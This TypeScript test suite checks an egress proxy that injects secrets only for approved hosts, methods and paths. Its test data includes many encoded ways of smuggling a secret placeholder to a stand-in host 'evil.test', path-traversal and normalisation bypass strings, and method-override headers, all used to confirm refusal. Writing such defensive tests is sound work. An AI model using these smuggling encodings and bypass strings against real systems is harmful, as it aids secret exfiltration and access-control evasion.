/** A placeholder on its way to where it must not go: refused, nothing reaches the host, the audit says why. */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { makeSecret, startHarness, startHttp, startHttps, type Harness, type Upstream } from "../../testing/harness.ts";
import { ask, askPlain, type Ask, type Reply } from "../../testing/talk.ts";

const secret = makeSecret(["api.test"]);
const narrowed = makeSecret(["api.test"], { name: "NARROW", methods: ["POST"], pathPrefixes: ["/v1/"] });
const bodily = makeSecret(["api.test"], { name: "BODILY", inBody: true, value: 'va"l&ue-0123456789' });
const { placeholder, value } = secret;
let upstream: Upstream;
let plain: Upstream;
let harness: Harness;
let arrived: { host: string; url: string; headers: string; body: string }[] = [];

before(async () => {
  const listener: Parameters<typeof startHttp>[0] = (request, response) => {
    let body = "";
    request.on("data", (chunk) => (body += chunk));
    request.on("end", () => {
      arrived.push({
        host: request.headers.host!,
        url: request.url!,
        headers: JSON.stringify(request.rawHeaders),
        body,
      });
      response.end("ok");
    });
    request.on("error", () => {});
  };
  upstream = await startHttps(["api.test", "evil.test"], listener);
  plain = await startHttp(listener);
  const to = `127.0.0.1:${upstream.port}`;
  harness = await startHarness({
    policy: { allow: ["api.test", "evil.test"] },
    secrets: [secret, narrowed, bodily],
    resolve: {
      "api.test": to,
      "evil.test": to,
      "api.test:80": `127.0.0.1:${plain.port}`,
      "evil.test:80": `127.0.0.1:${plain.port}`,
    },
  });
});
after(async () => {
  await harness.close();
  await upstream.close();
  await plain.close();
});

async function refused(rule: string, asking: () => Promise<Reply>): Promise<void> {
  arrived = [];
  harness.events.length = 0;
  const reply = await asking();
  assert.equal(reply.status, 403, reply.text);
  const told = JSON.parse(reply.text);
  assert.equal(told.rule, rule);
  assert.equal(told.error, "egress_refused");
  assert.equal(arrived.length, 0);
  const event = await harness.refusal(rule);
  assert.equal(event.kind, "request");
  assert.ok(!JSON.stringify(event).includes(value));
}

const base64 = (text: string): string => Buffer.from(text).toString("base64");
const percentAll = (text: string): string => Array.from(Buffer.from(text), (byte) => `%${byte.toString(16)}`).join("");
const unicodeAll = (text: string): string =>
  Array.from(text, (char) => `\\u00${char.charCodeAt(0).toString(16)}`).join("");

const smuggled: Record<string, Ask> = {
  "a header": { headers: { authorization: `Bearer ${placeholder}` } },
  "a header of another name": { headers: { "x-anything": `a${placeholder}b` } },
  "a cookie": { headers: { cookie: `s=${placeholder}` } },
  "the referer": { headers: { referer: `https://api.test/?k=${placeholder}` } },
  "Basic credentials": { headers: { authorization: `Basic ${base64(`user:${placeholder}`)}` } },
  "Basic credentials, other alignment": { headers: { authorization: `Basic ${base64(`us:${placeholder}`)}` } },
  "Basic credentials, third alignment": { headers: { authorization: `Basic ${base64(`u:${placeholder}`)}` } },
  "Base64 in any header": { headers: { "x-blob": base64(`{"a":"${placeholder}"}`) } },
  "URL-safe Base64 in a header": { headers: { "x-blob": Buffer.from(`??>${placeholder}`).toString("base64url") } },
  "hex in a header": { headers: { "x-hex": Buffer.from(placeholder).toString("hex") } },
  "percent encoding in a header": { headers: { "x-p": percentAll(placeholder) } },
  "a header's name": { headers: { [`x-${placeholder}`]: "1" } },
  "the path": { path: `/a/${placeholder}` },
  "the path, percent-encoded": { path: `/${percentAll(placeholder)}` },
  "the path, partly percent-encoded": { path: `/${placeholder.replace("c", "%63").replace("e", "%65")}` },
  "the query": { path: `/?k=${placeholder}` },
  "the query, percent-encoded twice": { path: `/?k=${encodeURIComponent(percentAll(placeholder))}` },
  "the query, Base64": { path: `/?k=${encodeURIComponent(base64(placeholder))}` },
  "a body": { method: "POST", body: `k=${placeholder}` },
  "a JSON body": {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ k: placeholder }),
  },
  "a JSON body with escapes": {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: `{"k":"${unicodeAll(placeholder)}"}`,
  },
  "a body in Base64": { method: "POST", body: base64(`xx${placeholder}`) },
  "a body in hex": { method: "PUT", body: Buffer.from(placeholder).toString("hex") },
  "a body, percent-encoded": { method: "POST", body: percentAll(placeholder) },
};

for (const [where, request] of Object.entries(smuggled)) {
  test(`a placeholder in ${where} does not reach a host it is not for`, async () => {
    await refused("secret-not-approved", () => ask(harness.guest, "evil.test", request));
  });
}

test("a placeholder in a streamed body is stopped before it is whole, wherever the chunks end", async () => {
  const whole = Buffer.from(`${"x".repeat(70_000)}${placeholder}${"y".repeat(1000)}`);
  for (const size of [7, 4096, 30_011]) {
    arrived = [];
    const chunks = async function* (): AsyncGenerator<Buffer> {
      for (let at = 0; at < whole.length; at += size === 7 ? (at < 69_990 ? 69_990 : 7) : size)
        yield whole.subarray(at, at + (size === 7 ? (at < 69_990 ? 69_990 : 7) : size));
    };
    const reply = await ask(harness.guest, "evil.test", { method: "POST", body: chunks() });
    assert.equal(reply.status, 403, `chunks of ${size}`);
    assert.ok(arrived.every(({ body }) => !body.includes(placeholder.slice(0, 24))));
  }
});

test("the same goes for a body of announced length beyond what is read whole", async () => {
  const body = `${"x".repeat(200_000)}${placeholder}`;
  const reply = await ask(harness.guest, "evil.test", {
    method: "POST",
    headers: { "content-length": String(body.length) },
    body,
  });
  assert.equal(reply.status, 403);
});

test("a secret never goes over plain HTTP, not even to its host", async () => {
  await refused("secret-needs-https", () =>
    askPlain(harness.guest, "api.test", { headers: { authorization: `Bearer ${placeholder}` } }),
  );
  await refused("secret-not-approved", () => askPlain(harness.guest, "evil.test", { path: `/?k=${placeholder}` }));
  await refused("secret-needs-https", () => askPlain(harness.guest, "api.test", { method: "POST", body: placeholder }));
});

test("a narrowed secret goes with its methods and paths only", async () => {
  const headers = { authorization: `Bearer ${narrowed.placeholder}` };
  arrived = [];
  assert.equal((await ask(harness.guest, "api.test", { method: "POST", path: "/v1/x", headers })).status, 200);
  assert.ok(arrived[0]!.headers.includes(narrowed.value));
  await refused("secret-narrowed", () => ask(harness.guest, "api.test", { method: "GET", path: "/v1/x", headers }));
  for (const path of [
    "/v2/x",
    "/V1/x",
    "/v1",
    "/v1/../v2",
    "/v1/%2e%2e/v2",
    "/v1/..%2fv2",
    "/v1//x",
    "/v1/.",
    "/v1/a\\b",
    "/x?/v1/",
    "/v1/..;/v2",
    "/v1/..%3f",
    "/v1/..%23",
    "/v1/%252e%252e/v2",
    "/v1/%u002e%u002e/v2",
    "/v1/..%3b/v2",
    "/v1/..%00",
    "/v1/a%0db",
    "/v1/..%1f/v2",
    "/v1/..%7f/v2",
    "/v1/%c0%ae%c0%ae/v2",
    "/v1/.%e0%80%ae/v2",
    "/v1/%f0%80%80%af",
    "/v1/%EF%BC%8E%ef%bc%8e/v2",
    "/v1/%e2%80%a4%e2%80%a4/v2",
    "/v1/x?_method=DELETE",
    "/v1/x?a=b&%5fmethod=DELETE",
    "/v1/x?a=b;.method=DELETE",
  ]) {
    await refused("secret-narrowed", () => ask(harness.guest, "api.test", { method: "POST", path, headers }));
  }
});

test("a narrowed secret does not go with what names another method or path", async () => {
  for (const name of [
    "X-Original-URL",
    "X-Rewrite-URL",
    "X-Forwarded-Path",
    "X-Forwarded-Prefix",
    "X-HTTP-Method-Override",
    "X_HTTP_Method_Override",
    "X-HTTP-Method",
    "X-Method-Override",
  ]) {
    const more = { [name]: "/v2/x" };
    const post = { method: "POST", path: "/v1/x" };
    await refused("secret-narrowed", () =>
      ask(harness.guest, "api.test", {
        ...post,
        headers: { authorization: `Bearer ${narrowed.placeholder}`, ...more },
      }),
    );
    await refused("secret-narrowed", () =>
      ask(harness.guest, "api.test", { ...post, headers: more, body: narrowed.placeholder }),
    );
    // Others go as they always did, and so does a request that holds none.
    const headers = { authorization: `Bearer ${placeholder}`, ...more };
    assert.equal((await ask(harness.guest, "api.test", { ...post, headers })).status, 200);
  }
  const path = "/v1/caf%C3%A9/.well-known/a...b/%20?x_method=1&method=2&_methods=3";
  const headers = { authorization: `Bearer ${narrowed.placeholder}` };
  assert.equal((await ask(harness.guest, "api.test", { method: "POST", path, headers })).status, 200);
});

test("headers, Basic credentials and the query of the approved host get the value, encoded as the place asks", async () => {
  arrived = [];
  await ask(harness.guest, "api.test", {
    path: `/?a=1&k=${placeholder}`,
    headers: { authorization: `Basic ${base64(`user:${placeholder}`)}`, "x-key": placeholder },
  });
  const { url, headers } = arrived[0]!;
  assert.equal(url, `/?a=1&k=${encodeURIComponent(value)}`);
  assert.ok(headers.includes(base64(`user:${value}`)) && headers.includes(`"${value}"`));
  arrived = [];
  await ask(harness.guest, "api.test", { path: `/?k=${percentAll(bodily.placeholder)}` });
  assert.equal(arrived[0]!.url, `/?k=${encodeURIComponent(bodily.value)}`);
});

test("a secret for bodies is put in, fits the document, and the length is right", async () => {
  arrived = [];
  await ask(harness.guest, "api.test", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ k: bodily.placeholder }),
  });
  assert.deepEqual(JSON.parse(arrived[0]!.body), { k: bodily.value });
  assert.ok(/"content-length","\d+"/i.test(arrived[0]!.headers));
  await ask(harness.guest, "api.test", {
    method: "POST",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    body: `k=${bodily.placeholder}&b=1`,
  });
  assert.equal(new URLSearchParams(arrived[1]!.body).get("k"), bodily.value);
  const long = `${"x".repeat(2 ** 20)}${bodily.placeholder}${"y".repeat(2 ** 20)}`;
  await ask(harness.guest, "api.test", { method: "POST", body: long });
  assert.equal(arrived[2]!.body, long.replace(bodily.placeholder, bodily.value));
  assert.ok(/"transfer-encoding","chunked"/i.test(arrived[2]!.headers));
});

test("requests without placeholders pass to every allowed host", async () => {
  arrived = [];
  assert.equal(
    (await ask(harness.guest, "evil.test", { method: "POST", path: "/x?y=z", headers: { "x-a": "b" }, body: "hello" }))
      .status,
    200,
  );
  assert.deepEqual(
    { host: arrived[0]!.host, url: arrived[0]!.url, body: arrived[0]!.body },
    { host: "evil.test", url: "/x?y=z", body: "hello" },
  );
  assert.equal((await askPlain(harness.guest, "api.test", { path: "/p" })).status, 200);
});
